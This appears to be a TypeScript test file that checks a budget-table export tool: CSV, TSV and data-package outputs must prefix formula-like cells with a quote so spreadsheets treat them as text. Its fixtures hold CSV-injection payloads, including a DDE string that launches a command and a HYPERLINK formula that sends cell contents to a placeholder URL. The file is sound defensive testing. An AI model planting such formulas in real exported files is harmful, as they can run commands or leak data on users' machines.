// Formula injection (OWASP "CSV Injection"): a hostile document's cells that start a spreadsheet
// formula reach every CSV/TSV export as text, prefixed with a single quote; amounts stay numbers.

import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { toFiscalDataPackage } from '../../src/lib/export/fiscal-data-package';
import { neutraliseFormula } from '../../src/lib/export/spreadsheet-formula';
import { toTableCsv, toTablesZip } from '../../src/lib/export/table-csv';
import { toTsv } from '../../src/lib/export/table-tsv';
import type { StandardTable } from '../../src/lib/model/disclosure';
import { parseCsv } from '../helpers/csv';
import { readReport } from '../helpers/reports';

const HYPERLINK = '=HYPERLINK("http://x"&A1,"点击")';
const DDE = "@SUM(1+1)*cmd|' /C calc'!A0";
const PAYLOADS = [HYPERLINK, DDE, '+1+cmd|calc', '-2+3+cmd|calc', '\t=1+1', '\r=1+1'];

/** A functional-classification table whose names, texts and one column header are payloads. */
function hostileTable(): StandardTable {
  return {
    kind: 'expenditure-summary',
    title: '支出总表',
    unit: '万元',
    empty: false,
    note: null,
    columns: ['合计', DDE],
    rows: [
      { seq: null, code: '201', name: HYPERLINK, cells: { 合计: '-3.00' }, texts: { [DDE]: '+1+cmd|calc' }, page: 1 },
      { seq: null, code: '20101', name: DDE, cells: { 合计: '-3.00' }, page: 1 },
      { seq: null, code: '2010101', name: '-2+3+cmd|calc', cells: { 合计: '12.5' }, page: 1 },
    ],
    page: 1,
    blockIndex: 0,
  };
}

/** Whether a spreadsheet would evaluate this field as a formula (a plain number is read as a number). */
function startsFormula(field: string): boolean {
  return /^[=+\-@\t\r]/.test(field) && !/^-?\d+(\.\d+)?%?$/.test(field);
}

describe('neutraliseFormula', () => {
  it.each(PAYLOADS)('prefixes %j with a single quote', (payload) => {
    expect(neutraliseFormula(payload)).toBe(`'${payload}`);
  });

  it.each(['-3.00', '-3', '-5.20%', '6570.38', '0', '社会保障和就业支出', '“三公”经费', "'=already text", ''])(
    'leaves %j as it is',
    (text) => {
      expect(neutraliseFormula(text)).toBe(text);
    },
  );
});

describe('every CSV/TSV export', () => {
  it('table CSV: payload cells and headers become text, amounts stay as printed', () => {
    const [header, ...rows] = parseCsv(toTableCsv(hostileTable()).slice(1));
    expect(header).toEqual(['序号', '科目编码', '科目名称', '合计（万元）', `'${DDE}`]);
    expect(rows.map((row) => row[2])).toEqual([`'${HYPERLINK}`, `'${DDE}`, "'-2+3+cmd|calc"]);
    expect(rows.map((row) => row[3])).toEqual(['-3.00', '-3.00', '12.5']);
    expect(rows[0]![4]).toBe("'+1+cmd|calc");
    expect([header!, ...rows].flat().filter(startsFormula)).toEqual([]);
  });

  it('the all-tables zip: every CSV in it', () => {
    const files = unzipSync(toTablesZip(readReport({ tables: [hostileTable(), hostileTable()] })));
    expect(Object.keys(files)).toHaveLength(2);
    for (const bytes of Object.values(files)) {
      const fields = parseCsv(strFromU8(bytes).slice(1)).flat();
      expect(fields).toContain('-3.00');
      expect(fields.filter(startsFormula)).toEqual([]);
    }
  });

  it('the TSV copy', () => {
    const lines = toTsv(hostileTable()).trimEnd().split('\n');
    const fields = lines.flatMap((line) => line.split('\t'));
    expect(fields).toContain(`'${HYPERLINK}`);
    expect(fields).toContain(`'${DDE}`);
    expect(fields).toContain('-3.00');
    expect(fields.filter(startsFormula)).toEqual([]);
  });

  it('the Fiscal Data Package CSV', () => {
    const files = toFiscalDataPackage(readReport({ tables: [hostileTable()] }))!;
    const [csv] = Object.values(files.csv);
    const rows = parseCsv(csv!);
    // One leaf row (2010101): its 类 and 款 names are the payloads; the amount column is a number.
    expect(rows[1]).toEqual(expect.arrayContaining([`'${HYPERLINK}`, `'${DDE}`, "'-2+3+cmd|calc", '12.5']));
    expect(rows.flat().filter(startsFormula)).toEqual([]);
    expect(files.descriptor.resources[0]!.schema.fields.at(-1)!.type).toBe('number');
  });
});
